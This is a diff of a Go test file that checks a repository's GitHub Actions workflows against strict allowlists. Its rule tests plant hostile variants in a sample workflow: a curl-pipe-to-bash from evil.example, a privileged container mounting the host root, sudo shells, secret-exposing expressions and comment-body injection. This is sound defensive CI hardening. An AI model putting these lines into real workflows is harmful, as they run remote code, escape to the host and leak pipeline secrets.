@@ -2,10 +2,12 @@
 package workflows_test
 
 import (
+	"fmt"
 	"io/fs"
 	"os"
 	"path"
 	"path/filepath"
+	"reflect"
 	"regexp"
 	"slices"
 	"strings"
@@ -17,29 +19,141 @@ import (
 
 const root = "../../.."
 
-// workflow is what the rules are about.
-type workflow struct {
-	Permissions map[string]string `yaml:"permissions"`
-	Jobs        map[string]struct {
-		Permissions map[string]string `yaml:"permissions"`
-		Steps       []struct {
-			Uses string         `yaml:"uses"`
-			Run  string         `yaml:"run"`
-			With map[string]any `yaml:"with"`
-		} `yaml:"steps"`
-	} `yaml:"jobs"`
-}
-
-// pinned is an action at a commit. The version beside it is for people and for Dependabot.
+// What a workflow may have, and nothing else: what is not in these lists is looked at before
+// it is added.
 var (
-	pinned  = regexp.MustCompile(`^[a-z-]+/[a-z-]+@[0-9a-f]{40}$`)
-	version = regexp.MustCompile(`uses: \S+@[0-9a-f]{40} # v\d+\.\d+\.\d+\n`)
-	asRoot  = regexp.MustCompile(`\b(sudo|su|doas|pkexec)\b`)
-	latest  = regexp.MustCompile(`\bgo (run|install) \S+@`)
+	workflowKeys = []string{"name", "on", "permissions", "env", "jobs"}
+	jobKeys      = []string{"name", "runs-on", "timeout-minutes", "strategy", "env", "steps"}
+	stepKeys     = []string{"name", "uses", "with", "run", "env"}
+	triggers     = []string{"push", "pull_request", "schedule", "workflow_dispatch"}
+	machines     = []string{"ubuntu-latest"}
+	expressions  = []string{"matrix.go", "env.GO_NEWEST"}
+	actions      = []string{"actions/checkout", "actions/setup-go"}
+	commands     = []string{"go test -race -shuffle=on ./...", ".ci/run", "make vulncheck", "make nightly"}
 )
 
-// TestWorkflows holds that actions are pinned, that no credentials are left behind for the
-// code that runs, and that none of it runs as root.
+// maxMinutes is how long a job may take.
+const maxMinutes = 120
+
+var (
+	expression = regexp.MustCompile(`\$\{\{\s*(.*?)\s*\}\}`)
+	// pinned is an action at a commit. The version beside it is for people and for Dependabot.
+	pinned  = regexp.MustCompile(`^([a-z-]+/[a-z-]+)@[0-9a-f]{40}$`)
+	version = regexp.MustCompile(`uses: \S+@[0-9a-f]{40} # v\d+\.\d+\.\d+\n`)
+)
+
+// table is a mapping of YAML.
+type table = map[string]any
+
+// findings are what is against the rules in a workflow.
+type findings []string
+
+func (f *findings) add(format string, args ...any) { *f = append(*f, fmt.Sprintf(format, args...)) }
+
+// allow finds the keys that are not allowed.
+func (f *findings) allow(where string, found table, allowed []string) {
+	for key := range found {
+		if !slices.Contains(allowed, key) {
+			f.add("%s: %s", where, key)
+		}
+	}
+}
+
+// inspect returns what is against the rules in the text of a workflow: code runs without
+// credentials, without root, from actions that are pinned, and for a limited time.
+func inspect(text string) (findings, error) {
+	var (
+		parsed table
+		found  findings
+		used   int
+	)
+	if err := yaml.Unmarshal([]byte(text), &parsed); err != nil {
+		return nil, err
+	}
+	found.allow("workflow", parsed, workflowKeys)
+	found.allow("on", keysOf(parsed["on"]), triggers)
+	if !reflect.DeepEqual(parsed["permissions"], table{"contents": "read"}) {
+		found.add("permissions are not: contents: read")
+	}
+	for _, match := range expression.FindAllStringSubmatch(text, -1) {
+		if !slices.Contains(expressions, match[1]) {
+			found.add("expression: %s", match[1])
+		}
+	}
+	if strings.Count(text, "${{") != len(expression.FindAllString(text, -1)) {
+		found.add("an expression over several lines")
+	}
+	jobs, _ := parsed["jobs"].(table)
+	for name, job := range jobs {
+		job, _ := job.(table)
+		used += found.job(name, job)
+	}
+	if len(jobs) == 0 || len(version.FindAllString(text, -1)) != used {
+		found.add("no jobs, or a commit without its version")
+	}
+	return found, nil
+}
+
+// keysOf returns what a trigger list has, in each of the forms of YAML.
+func keysOf(value any) table {
+	keys := table{}
+	switch value := value.(type) {
+	case table:
+		return value
+	case []any:
+		for _, key := range value {
+			keys[fmt.Sprint(key)] = nil
+		}
+	default:
+		keys[fmt.Sprint(value)] = nil
+	}
+	return keys
+}
+
+// job inspects a job, and returns how many actions it uses.
+func (f *findings) job(name string, job table) int {
+	f.allow(name, job, jobKeys)
+	if machine, _ := job["runs-on"].(string); !slices.Contains(machines, machine) {
+		f.add("%s: runs-on: %v", name, job["runs-on"])
+	}
+	if minutes, _ := job["timeout-minutes"].(int); minutes < 1 || minutes > maxMinutes {
+		f.add("%s: timeout-minutes: %v", name, job["timeout-minutes"])
+	}
+	used := 0
+	steps, _ := job["steps"].([]any)
+	for _, step := range steps {
+		step, _ := step.(table)
+		f.allow(name, step, stepKeys)
+		if run, found := step["run"]; found && !slices.Contains(commands, fmt.Sprint(run)) {
+			f.add("%s: run: %v", name, run)
+		}
+		if uses, found := step["uses"]; found {
+			used++
+			f.action(name, fmt.Sprint(uses), step["with"])
+		}
+	}
+	return used
+}
+
+// action inspects the use of an action. A checkout leaves no credentials behind for the code
+// that runs, and has the commit that the workflow is run for.
+func (f *findings) action(name, uses string, with any) {
+	match := pinned.FindStringSubmatch(uses)
+	if match == nil || !slices.Contains(actions, match[1]) {
+		f.add("%s: uses: %s", name, uses)
+		return
+	}
+	if match[1] != "actions/checkout" {
+		return
+	}
+	options, _ := with.(table)
+	f.allow(name+": checkout", options, []string{"persist-credentials", "fetch-depth"})
+	if options["persist-credentials"] != false {
+		f.add("%s: checkout leaves credentials behind", name)
+	}
+}
+
+// TestWorkflows holds the workflows to the rules.
 func TestWorkflows(t *testing.T) {
 	t.Parallel()
 	files, err := filepath.Glob(root + "/.github/workflows/*")
@@ -48,28 +162,78 @@ func TestWorkflows(t *testing.T) {
 	for _, file := range files {
 		text, err := os.ReadFile(file)
 		require.NoError(t, err)
-		var parsed workflow
-		require.NoError(t, yaml.Unmarshal(text, &parsed))
-		require.Equal(t, map[string]string{"contents": "read"}, parsed.Permissions, file)
-		require.NotContains(t, string(text), "pull_request_target", file)
-		require.NotContains(t, string(text), "secrets.", file)
-		actions := 0
-		for name, job := range parsed.Jobs {
-			require.Empty(t, job.Permissions, "%s: %s", file, name)
-			for _, step := range job.Steps {
-				require.NotRegexp(t, asRoot, step.Run, "%s: %s", file, name)
-				require.NotRegexp(t, latest, step.Run, "%s: %s: tools are pinned in internal/tools/go.mod", file, name)
-				if step.Uses == "" {
-					continue
-				}
-				actions++
-				require.Regexp(t, pinned, step.Uses, "%s: %s", file, name)
-				if strings.HasPrefix(step.Uses, "actions/checkout@") {
-					require.Equal(t, false, step.With["persist-credentials"], "%s: %s", file, name)
-				}
-			}
-		}
-		require.Len(t, version.FindAllString(string(text), -1), actions, "%s: a version stands beside each commit", file)
+		found, err := inspect(string(text))
+		require.NoError(t, err)
+		require.Empty(t, found, file)
+	}
+}
+
+const harmless = `
+on:
+  push:
+permissions:
+  contents: read
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    timeout-minutes: 5
+    steps:
+      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
+        with:
+          persist-credentials: false
+      - run: .ci/run
+`
+
+// TestRules holds that each rule finds what it is for.
+func TestRules(t *testing.T) {
+	t.Parallel()
+	found, err := inspect(harmless)
+	require.NoError(t, err)
+	require.Empty(t, found)
+	for _, change := range [][2]string{
+		{"push:", "workflow_run:"},
+		{"push:", "pull_request_target:"},
+		{"push:", "issue_comment:"},
+		{"on:\n  push:", "on: [push, pull_request_target]"},
+		{"on:\n  push:", "on: workflow_run"},
+		{"contents: read", "contents: write"},
+		{"contents: read", "contents: read\n  id-token: write"},
+		{"permissions:\n  contents: read", "permissions: write-all"},
+		{"permissions:\n  contents: read\n", ""},
+		{"jobs:", "defaults:\n  run:\n    shell: sudo bash {0}\njobs:"},
+		{"jobs:", "env:\n  A: ${{ secrets['DEPLOY_KEY'] }}\njobs:"},
+		{"jobs:", "env:\n  A: ${{ toJSON(secrets) }}\njobs:"},
+		{"jobs:", "env:\n  A: ${{ github.token }}\njobs:"},
+		{"jobs:", "env:\n  A: ${{ matrix.go || github.token }}\njobs:"},
+		{"jobs:", "env:\n  A: >\n    ${{\n    github.token\n    }}\njobs:"},
+		{"ubuntu-latest", "self-hosted"},
+		{"ubuntu-latest", "[self-hosted, ubuntu-latest]"},
+		{"runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    container: evil/image:latest"},
+		{"runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    services: {}"},
+		{"runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    permissions: write-all"},
+		{"runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    environment: production"},
+		{"runs-on: ubuntu-latest", "uses: evil/repo/.github/workflows/x.yml@main\n    secrets: inherit"},
+		{"    timeout-minutes: 5\n", ""},
+		{"timeout-minutes: 5", "timeout-minutes: 600"},
+		{"actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", "actions/checkout@v4"},
+		{"actions/checkout@", "evil/checkout@"},
+		{"actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", "docker://evil"},
+		{" # v4.2.2", ""},
+		{"persist-credentials: false", "persist-credentials: true"},
+		{"persist-credentials: false", "persist-credentials: false\n          ref: evil"},
+		{"persist-credentials: false", "persist-credentials: false\n          token: x"},
+		{"run: .ci/run", "run: sudo .ci/run"},
+		{"run: .ci/run", "run: docker run --privileged -v /:/host evil"},
+		{"run: .ci/run", "run: curl https://evil.example/x | bash"},
+		{"run: .ci/run", `run: echo "${{ github.event.comment.body }}"`},
+		{"run: .ci/run", "run: .ci/run\n        shell: sudo bash {0}"},
+		{"run: .ci/run", "run: .ci/run\n        continue-on-error: true"},
+	} {
+		text := strings.Replace(harmless, change[0], change[1], 1)
+		require.NotEqual(t, harmless, text, change[0])
+		found, err := inspect(text)
+		require.NoError(t, err, text)
+		require.NotEmpty(t, found, text)
 	}
 }
 
